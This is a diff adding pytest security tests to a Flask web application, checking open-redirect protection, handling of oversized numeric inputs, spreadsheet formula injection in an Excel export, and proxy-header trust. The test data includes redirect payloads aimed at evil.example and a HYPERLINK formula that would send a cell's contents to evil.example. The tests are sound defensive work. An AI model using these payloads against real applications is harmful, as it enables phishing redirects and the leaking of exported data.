@@ -148,3 +148,41 @@ def test_an_unexpected_error_gives_the_500_page_and_logs_no_query_string(tmp_pat
     html = response.get_data(as_text=True)
     assert response.status_code == 500 and "系统出错" in html and "navbar" in html
     assert "11010519491231002X" not in caplog.text and "/explode" in caplog.text
+
+
+def test_language_switch_refuses_an_offsite_next_even_with_control_characters(client):
+    token = csrf_token(client, "/login")
+    for target in ("/\t/evil.example", "//evil.example", "https://evil.example/", "/\\evil.example"):
+        response = client.post("/language", data={"lang": "en", "next": target, "csrf_token": token})
+        assert response.headers["Location"] == "/", target
+
+
+@pytest.mark.parametrize("path", [
+    "/workers/99999999999999999999999", "/registry/99999999999999999999999",
+    "/workers/?enterprise_id=99999999999999999999999", "/workers/?page=99999999999999999999999",
+    "/admin/audit/?since=0001-01-01", "/registry?year=99999999999999999999999",
+])
+def test_absurd_numbers_are_bad_input_not_server_errors(world, client, login, path):
+    login(world.users.admin)
+    assert client.get(path).status_code in (200, 400, 404)
+
+
+def test_typed_text_that_looks_like_a_formula_stays_text_in_excel(app, world, client, login):
+    import io
+
+    from openpyxl import load_workbook
+
+    with app.app_context():
+        worker = db.session.get(Worker, world.worker_a)
+        worker.honors = '=HYPERLINK("http://evil.example/?"&C2,"详情")'
+        db.session.commit()
+    login(world.users.admin)
+    sheet = load_workbook(io.BytesIO(client.get("/workers/export.xlsx").data)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+
+def test_proxy_headers_are_trusted_only_when_configured(monkeypatch):
+    monkeypatch.setenv("TRUSTED_PROXY_HOPS", "1")
+    app = create_app("testing", {"DATABASE_URL": "sqlite://"})
+    assert type(app.wsgi_app).__name__ == "ProxyFix"
